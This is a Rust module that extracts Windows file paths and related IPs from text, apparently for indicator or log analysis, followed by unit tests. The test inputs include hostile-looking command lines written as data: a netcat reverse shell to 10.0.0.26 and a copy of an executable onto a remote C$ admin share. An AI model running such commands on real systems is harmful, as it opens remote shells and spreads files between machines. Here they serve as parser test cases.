//! Windows paths in text: `C:\…`, `%VAR%\…`, `$env:VAR\…` (and a share's path once its
//! `\\host\` is found), read as far as they read as a path.

/// The bytes that end a path wherever they are.
const HARD_STOPS: &[u8] = b"\"'<>|*?,;`\r\n\t";

/// Whether `s` starts with a Windows path: `C:\`, `%VAR%\` or `$env:VAR\`, then a name (a
/// UNC path is found on its own).
pub(crate) fn is_path_start(s: &str) -> bool {
    let b = s.as_bytes();
    let name_len = |from: usize, extra: &[u8]| {
        b[from.min(b.len())..]
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == &b'_' || extra.contains(c))
            .count()
    };
    // Where the path's first name starts, after its root.
    let root = match b.first() {
        Some(c) if c.is_ascii_alphabetic() => (b.get(1..3) == Some(&b":\\"[..])).then_some(3),
        Some(b'%') => {
            let name = name_len(1, b"()");
            (name > 0 && b.get(1 + name..3 + name) == Some(&b"%\\"[..])).then_some(3 + name)
        }
        Some(b'$') if b.len() > 5 && b[1..5].eq_ignore_ascii_case(b"env:") => {
            let name = name_len(5, b"");
            (name > 0 && b.get(5 + name) == Some(&b'\\')).then_some(6 + name)
        }
        _ => None,
    };
    root.and_then(|r| b.get(r))
        .is_some_and(|c| !is_stop(*c) && !matches!(c, b'\\' | b'$'))
}

/// The path that starts at `start` in `text`: to a space, unless what follows the space
/// still reads as the rest of the path (`C:\Program Files\App\x.exe`: the part before has
/// no extension, the part after is not a switch and holds a `\` or ends in an extension,
/// or closes the quote the path opened in).
pub(crate) fn path_at(text: &str, start: usize) -> &str {
    let b = text.as_bytes();
    let quote = start
        .checked_sub(1)
        .map(|q| b[q])
        .filter(|q| matches!(q, b'"' | b'\''));
    let mut end = start;
    let mut spaces = 0;
    while end < b.len() {
        let c = b[end];
        if c == b' ' {
            spaces += 1;
            if spaces > 4 || !continues_after_space(&b[start..end], &b[end + 1..], quote) {
                break;
            }
        } else if Some(c) == quote || (quote.is_none() && is_stop(c)) || b"\r\n<>|".contains(&c) {
            break;
        }
        end += 1;
    }
    let mut path = &text[start..end];
    // Sentence punctuation and a bracket the path sits in are not part of it.
    loop {
        let opened = path.matches('(').count();
        let trimmed = match path.as_bytes().last() {
            Some(b'.' | b',' | b':' | b']' | b'}' | b' ') => &path[..path.len() - 1],
            Some(b')') if path.matches(')').count() > opened => &path[..path.len() - 1],
            _ => break,
        };
        path = trimmed;
    }
    path
}

/// Whether the words after a space in a path are still the path: the part before has no
/// extension, and within three words comes one with a `\` or an extension (or, in quotes,
/// one the quote closes after), before a switch (`-x`, `/x`) or another path.
fn continues_after_space(before: &[u8], after: &[u8], quote: Option<u8>) -> bool {
    let last_segment = before.rsplit(|c| *c == b'\\').next().unwrap_or(before);
    if last_segment.contains(&b'.') {
        return false;
    }
    let mut rest = after;
    for _ in 0..3 {
        let len = rest.iter().take_while(|c| !is_stop(**c)).count();
        let word = &rest[..len];
        let another_path = word.get(1..3) == Some(&b":\\"[..]) || word.starts_with(b"\\\\");
        if word.is_empty() || word.starts_with(b"-") || word.starts_with(b"/") || another_path {
            return false;
        }
        let closes_quote = quote.is_some() && rest.get(len).copied() == quote;
        if word.contains(&b'\\') || has_extension(word) || closes_quote {
            return true;
        }
        if rest.get(len) != Some(&b' ') {
            return false;
        }
        rest = &rest[len + 1..];
    }
    false
}

/// `name.ext`, with one to four letters or digits after the last dot.
fn has_extension(word: &[u8]) -> bool {
    match word.iter().rposition(|c| *c == b'.') {
        Some(dot) => {
            let ext = &word[dot + 1..];
            dot > 0 && (1..=4).contains(&ext.len()) && ext.iter().all(u8::is_ascii_alphanumeric)
        }
        None => false,
    }
}

/// Whether `c` ends a path that is not in quotes.
fn is_stop(c: u8) -> bool {
    c.is_ascii_whitespace() || HARD_STOPS.contains(&c)
}

#[cfg(test)]
mod tests {
    use super::super::tests::{found, of};
    use crate::event::MentionKind::*;

    #[test]
    fn windows_paths_are_read_with_their_spaces_and_without_their_punctuation() {
        assert_eq!(
            found(
                r#"C:\Program Files (x86)\App\up.exe -k; "C:\Users\Bob Smith\a b.txt", (C:\t\x.dll)."#
            ),
            of(
                File,
                &[
                    r"C:\Program Files (x86)\App\up.exe",
                    r"C:\Users\Bob Smith\a b.txt",
                    r"C:\t\x.dll"
                ]
            )
        );
        assert_eq!(
            found(r"copy %TEMP%\x.exe \\10.0.0.9\C$\x.exe & dir $env:APPDATA\y > \\.\pipe\p"),
            vec![
                (File, r"%TEMP%\x.exe".into()),
                (File, r"\\10.0.0.9\C$\x.exe".into()),
                (Ip, "10.0.0.9".into()),
                (File, r"$env:APPDATA\y".into()),
            ]
        );
        assert_eq!(
            found(r"cd C:\Users\Public & dir"),
            of(File, &[r"C:\Users\Public"])
        );
        assert_eq!(
            found(
                r#"-value "C:\nc.exe -e powershell.exe 10.0.0.26 4447"; md "C:\Temp\New folder""#
            ),
            vec![
                (File, r"C:\nc.exe".into()),
                (Ip, "10.0.0.26".into()),
                (File, r"C:\Temp\New folder".into()),
            ]
        );
        assert_eq!(
            found(
                r#"$env:userdomain\$env:username %PCI%\\ \\root\\cimv2 \\PC1\root\cimv2:Win32_X"#
            ),
            vec![],
            "a user name, an escaped path, an empty one and a WMI namespace are no files"
        );
    }
}
